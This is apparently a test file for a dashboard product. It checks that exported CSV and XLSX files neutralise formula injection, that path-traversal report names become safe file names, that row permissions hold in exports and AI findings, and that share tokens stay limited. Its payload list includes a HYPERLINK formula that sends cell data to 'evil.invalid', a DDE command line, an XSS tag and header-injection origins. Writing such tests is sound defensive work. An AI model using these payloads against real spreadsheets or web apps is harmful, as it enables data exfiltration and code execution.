import { ENDPOINTS, type ExportTask, type QueryResult, type Share, type ShareArgs } from '@tessera/contract';
import excel from 'exceljs';
import { unzipSync } from 'fflate';

import { startTestServer, uploadClient, type SampleTokens, type TestServer } from './index.ts';

const { admin, aiComponents, boardExports, chart, menu, query, share } = ENDPOINTS;
/** What spreadsheets would take for formulas, and what browsers would for a page. */
const HOSTILE = [
  '=HYPERLINK("http://evil.invalid/?"&A1)',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '-2+3+cmd',
  '<img src=x onerror=alert(1)>',
];
const FINDINGS = 'findings';
const row = (name: string, region: string, amount: number) =>
  [`"${name.replaceAll('"', '""')}"`, region, amount].join(',');
const LINES = [
  'name,region,amount',
  ...HOSTILE.map((name, at) => row(name, '华东', -1 - at)),
  ...[1, 2, 3, 4].flatMap((at) => [row(`east ${at}`, '华东', 10 * at), row(`south ${at}`, '华南', 900 * at)]),
];

let server: TestServer;
let tokens: SampleTokens;
let menuCode: string;
let reportCode: string;
let regionField: string;
let tableId: string;
const call = <T = unknown>(endpoint: object, body: object, token = tokens.owner) =>
  server.call<T>(endpoint, { body }, token);

beforeAll(async () => {
  server = await startTestServer({ env: { TESSERA_CHROMIUM: 'off' } });
  tokens = await server.signInAll();
  const owner = uploadClient(server, tokens.owner);
  tableId = (await owner.load('攻击', 'attack.csv', `${LINES.join('\n')}\n`, { everyRole: true })).tableId!;
  const found = (await owner.detail(tableId)).fields;
  const id = (name: string) => found.find((one) => one.name === name)!.fieldId;
  regionField = id('region');
  menuCode = await server.addBoard(tokens.owner);
  const save = async (reportName: string) => {
    const reportParam = {
      tbId: tableId,
      dimensionCondition: [{ uniqId: 'd', fieldId: id('name'), fieldAlias: '=1+1' }],
      indexCondition: [{ uniqId: 'm', fieldId: id('amount'), aggregator: 'sum' }],
    };
    const body = { menuCode, reportName, reportTypeCode: 'graph_bar', reportParam };
    return (await call<{ reportCode: string }>(chart.save, body)).data.reportCode;
  };
  reportCode = await save('../../../etc/cron.d/x');
  const second = await save('..\\..\\con');
  const place = (i: string, y: number) => ({ i, x: 0, y, w: 12, h: 6 });
  const filter = {
    ...{ code: 'region', name: 'region', typeCode: '0002', control: '1', multiple: true, filterValue: null },
    ...{ parentFilterList: [], location: 'bar' },
    filterData: [{ tblId: tableId, fieldId: regionField, filterReportCodes: [reportCode, second] }],
  };
  const findings = { reportCodes: [reportCode], findingKinds: ['peaks', 'contribution'], written: true };
  const document = {
    layoutType: 0,
    layout: [place(reportCode, 0), place(second, 6), place(FINDINGS, 12)],
    ...{ appLayout: null, pool: [] },
    components: [filter, { code: FINDINGS, name: 'findings', typeCode: '0006', ...findings }],
  };
  const saving = { params: { id: menuCode }, body: { version: 0, lockKey: 'window-of-test', document } };
  const saved = await server.call(menu.saveConfiguration, saving, tokens.owner);
  if (saved.code !== '0') throw new Error(`the board was not saved: ${JSON.stringify(saved)}`);
}, 120_000);
afterAll(() => server.stop());

async function exported(kind: 'csv' | 'xlsx', token: string): Promise<Buffer> {
  const { data } = await call<ExportTask>(boardExports.exportAsync, { menuCode, kind }, token);
  for (;;) {
    const { list } = (await call<{ list: ExportTask[] }>(boardExports.getTasks, {}, token)).data;
    const state = list.find((one) => one.id === data.id)?.state;
    if (state === 'done') break;
    if (state !== 'queued' && state !== 'running') throw new Error(`the export is ${state}`);
    await new Promise((resolve) => setTimeout(resolve, 40));
  }
  const reply = await fetch(`${server.url}${boardExports.download.path}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', token },
    body: JSON.stringify({ id: data.id }),
  });
  return Buffer.from(await reply.arrayBuffer());
}
/** Fields of a CSV, which are quoted where they must be. */
const fieldsOf = (csv: string): string[] =>
  [...csv.replace('\uFEFF', '').matchAll(/"((?:[^"]|"")*)"|([^",\r\n]+)/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
  );

describe('files of a board', () => {
  test('security 22, 23: names that climb out of folders are names, formulas are texts, negative numbers are numbers', async () => {
    const files = unzipSync(await exported('csv', tokens.owner));
    const names = Object.keys(files);
    expect(names).toHaveLength(2);
    for (const name of names) expect(name).toMatch(/^[^/\\:.][^/\\:]*\.csv$/);
    for (const bytes of Object.values(files)) {
      const fields = fieldsOf(Buffer.from(bytes).toString());
      for (const text of ['=1+1', ...HOSTILE.slice(0, 4)]) expect(fields).toContain(`'${text}`);
      expect(fields).toEqual(expect.arrayContaining(['-1', '-5', '40']));
      expect(fields.filter((text) => /^[=+@\t\r]|^-(?![\d.]+$)/.test(text))).toEqual([]);
    }
    const book = new excel.Workbook();
    await book.xlsx.load((await exported('xlsx', tokens.owner)) as never);
    const cells: excel.Cell[] = [];
    for (const sheet of book.worksheets) sheet.eachRow((line) => line.eachCell((cell) => void cells.push(cell)));
    expect(cells.filter(({ type }) => type !== excel.ValueType.String && type !== excel.ValueType.Number)).toEqual([]);
    const texts = cells.filter(({ type }) => type === excel.ValueType.String);
    for (const text of ['=1+1', ...HOSTILE]) expect(texts.map(({ value }) => value)).toContain(text);
    expect(cells.map(({ value }) => value)).toEqual(expect.arrayContaining([-1, -5, 40]));
  });

  test('security 13: hold the rows that whoever asked may see; so do findings and their words', async () => {
    const { roleId } = (await server.signIn('reader')).roleInfo;
    const conditions = [{ fieldId: regionField, aggregator: 'equal', fieldValue: ['华东'] }];
    expect((await call(admin.saveRoleCondition, { roleId, tblId: tableId, conditions })).code).toBe('0');
    try {
      // What the owner saw first is in the cache, and in a file.
      expect(JSON.stringify((await call<QueryResult>(query.boardReport, { menuCode, reportCode })).data)).toContain(
        'south 4',
      );
      const [mine, owners] = [await exported('csv', tokens.reader), await exported('csv', tokens.owner)];
      const all = (zip: Buffer) => Object.values(unzipSync(zip)).map((bytes) => Buffer.from(bytes).toString());
      for (const text of all(mine)) expect([text.includes('east 4'), text.includes('south')]).toEqual([true, false]);
      for (const text of all(owners)) expect(text).toContain('south 4');
      const told = async (token: string) =>
        JSON.stringify((await call(aiComponents.select, { menuCode, componentCode: FINDINGS }, token)).data);
      expect(await told(tokens.owner)).toContain('south 4');
      expect([await told(tokens.reader)].map((text) => [text.includes('east 4'), text.includes('south')])).toEqual([
        [true, false],
      ]);
    } finally {
      await call(admin.saveRoleCondition, { roleId, tblId: tableId, conditions: [] });
    }
  });
});

describe('a share', () => {
  const made = (change: object = {}) =>
    call<Share>(share.edit, { menuCode, reportCode: null, name: 'For all', enabled: true, expiresAt: null, ...change });
  const enter = async (shareId: string) =>
    (await server.call<ShareArgs>(share.enter, { body: { shareId } })).data.token;

  test('security 8, 9: its findings stay under what is locked, whatever the visitor says, and tell of no table', async () => {
    const locked = [{ componentCode: 'region', choice: { aggregator: 'in', fieldValue: ['华东'] } }];
    const [free, narrow] = [(await made()).data.shareId, (await made({ locked })).data.shareId];
    const told = async (shareId: string, fieldValue: readonly string[] | null) => {
      const boardState = { filters: [{ componentCode: 'region', choice: fieldValue && { fieldValue } }] };
      const headers = { 'share-token': await enter(shareId) };
      const body = { shareId, componentCode: FINDINGS, boardState, reportCodes: [reportCode], menuCode };
      const reply = await server.call(share.insights, { body, headers });
      expect(reply.code).toBe('0');
      return JSON.stringify(reply.data);
    };
    expect(await told(free, null)).toContain('south 4');
    expect(await told(free, ['华东'])).not.toContain('south');
    for (const choice of [null, ['华南'], ['华东', '华南']]) {
      const text = await told(narrow, choice);
      expect([text.includes('east 4'), text.includes('south')]).toEqual([true, false]);
      for (const secret of [tableId, regionField, 'select ', '华南']) expect(text).not.toContain(secret);
    }
  });

  test.each([
    'https://a.example; script-src *',
    'https://a.example\nset-cookie: a=b',
    'https://a.example\n',
    "https://a.example' 'unsafe-inline'",
    'javascript:alert(1)',
    'https://*',
    '*',
    'data:',
    'https://user@evil.invalid',
    'https://evil.invalid/path',
  ])('security 19: %j is no origin that may frame it', async (origin) => {
    expect((await made({ origins: [origin] })).code).toBe('-10001');
  });

  test('security 7, 8: its token opens nothing but the share: no export, no chart, no finding, no picture', async () => {
    const { shareId } = (await made()).data;
    const shared = await enter(shareId);
    const bodies: [object, object][] = [
      [boardExports.exportAsync, { menuCode, kind: 'csv' }],
      [boardExports.getTasks, {}],
      [query.boardReport, { menuCode, reportCode }],
      [aiComponents.select, { menuCode, componentCode: 'any' }],
      [aiComponents.summary, { menuCode, componentCode: 'any' }],
      [share.edit, { menuCode, reportCode: null, name: 'Another', enabled: true, expiresAt: null }],
    ];
    for (const [endpoint, body] of bodies)
      for (const header of ['token', 'share-token'])
        expect((await server.call(endpoint, { body, headers: { [header]: shared } })).code).toBe('-10006');
    const picture = { body: Buffer.from('x'), headers: { token: shared, 'share-token': shared } };
    expect((await server.call(ENDPOINTS.upload.image, picture)).code).toBe('-10006');
    const map = { ...picture, params: { type: 'map' }, query: { name: 'A' } };
    expect((await server.call(ENDPOINTS.upload.enterFunction, map)).code).toBe('-10006');
  });
});
